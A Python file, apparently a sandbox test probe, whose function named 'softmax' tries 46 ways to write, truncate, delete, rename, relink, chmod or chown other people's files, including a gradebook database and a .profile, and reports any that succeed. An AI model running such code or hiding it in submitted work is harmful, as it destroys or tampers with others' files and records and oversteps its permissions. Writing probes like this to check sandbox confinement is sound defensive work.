"""Changes, empties, moves, links and removes other people's files, and makes new files next to them.

The file contains the real paths, but a worker may not make or change any file.
"""

import ctypes
import os
import shutil
from pathlib import Path

SAYS = "RuntimeError: 0 of 46 ways"
LIBC = ctypes.CDLL(None, use_errno=True)
NEW = "hostile_was_here"
PATHS = ("/path/to/class/ada.py", "/path/to/out/gradebook.sqlite", "/path/to/home/.profile")
CREATE, WRITE, EMPTY = os.O_CREAT, os.O_WRONLY, os.O_TRUNC


def call(function, *arguments):
    if function(*arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")


def ways(file):
    folder = file.parent
    path, new = str(file).encode(), str(folder / NEW)
    return (
        lambda: file.write_text("42"),
        lambda: open(file, "a").write("42"),
        lambda: open(file, "r+").truncate(0),
        lambda: os.open(file, os.O_RDONLY | EMPTY),
        lambda: os.open(file, os.O_RDONLY | CREATE),
        lambda: os.open(file, os.O_PATH | EMPTY | CREATE) and os.ftruncate(os.open(file, os.O_PATH), 0),
        lambda: os.open(file, 3),
        lambda: os.open(file.name, WRITE, dir_fd=os.open(folder, os.O_PATH)),
        lambda: os.open(new, CREATE | WRITE, 0o777),
        lambda: os.open(new, CREATE | os.O_RDONLY | os.O_EXCL),
        lambda: os.open(folder, os.O_TMPFILE | os.O_RDWR, 0o600),
        lambda: call(LIBC.creat, new.encode(), 0o666),
        lambda: os.truncate(file, 0),
        lambda: call(LIBC.truncate64, path, ctypes.c_long(0)),
        lambda: file.unlink(),
        lambda: file.rename(new),
        lambda: os.replace(file, new),
        lambda: call(LIBC.renameat2, -100, path, -100, new.encode(), 2),
        lambda: os.link(file, new),
        lambda: os.link("/dev/null", new),
        lambda: os.symlink(file, new),
        lambda: os.symlink("/etc/passwd", new),
        lambda: os.mkdir(new),
        lambda: os.rmdir(folder),
        lambda: os.mkfifo(new),
        lambda: os.mknod(new),
        lambda: os.mknod(new, 0o20666, os.makedev(1, 1)),
        lambda: os.chmod(file, 0o777),
        lambda: os.chmod(folder, 0o777),
        lambda: os.chmod(os.open(folder, os.O_PATH), 0o777),
        lambda: os.chown(file, 65534, 65534),
        lambda: os.lchown(file, 65534, 65534),
        lambda: os.utime(file, (0, 0)),
        lambda: os.utime(folder),
        lambda: os.setxattr(file, "user.note", b"42"),
        lambda: os.removexattr(file, "user.note"),
        lambda: shutil.copy("/dev/null", new),
        lambda: shutil.rmtree(folder),
        lambda: shutil.move(file, "."),
        lambda: os.chroot(folder),
        lambda: call(LIBC.mkostemp, ctypes.create_string_buffer(f"{new}XXXXXX".encode()), 0),
        lambda: call(LIBC.fallocate, os.open(file, os.O_PATH), 0, ctypes.c_long(0), ctypes.c_long(9)),
        lambda: call(LIBC.inotify_add_watch, LIBC.inotify_init(), path, 2),
        lambda: os.posix_fallocate(os.open(file, os.O_PATH), 0, 9),
        lambda: os.copy_file_range(os.open("/dev/null", 0), os.open(file, os.O_PATH), 9),
        lambda: os.lockf(os.open(file, os.O_RDWR), os.F_LOCK, 1),
    )


def softmax(X):
    worked, tried = [], 0
    for path in PATHS:
        for tried, way in enumerate(ways(Path(path)), 1):
            try:
                way()
                worked.append(f"{tried} {path}")
            except OSError:
                pass
    raise RuntimeError(f"worked: {worked}" if worked else f"0 of {tried} ways")
